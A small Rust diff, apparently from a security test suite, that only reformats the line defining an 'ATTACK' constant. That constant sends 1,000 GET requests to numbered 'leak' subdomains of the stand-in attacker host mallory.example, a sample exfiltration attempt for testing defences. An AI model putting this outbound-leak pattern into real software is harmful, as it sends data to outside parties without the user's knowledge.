@@ -3,4 +3,5 @@
 use crate::attack::{Attack, HONEST};
 use crate::http::{Ask, reach};
 
-pub const ATTACK: Attack = Attack { check: || Err(reach((0..1_000).map(|number| Ask::get(format!("leak{number}.mallory.example"), "/")))), ..HONEST };
+pub const ATTACK: Attack =
+    Attack { check: || Err(reach((0..1_000).map(|number| Ask::get(format!("leak{number}.mallory.example"), "/")))), ..HONEST };
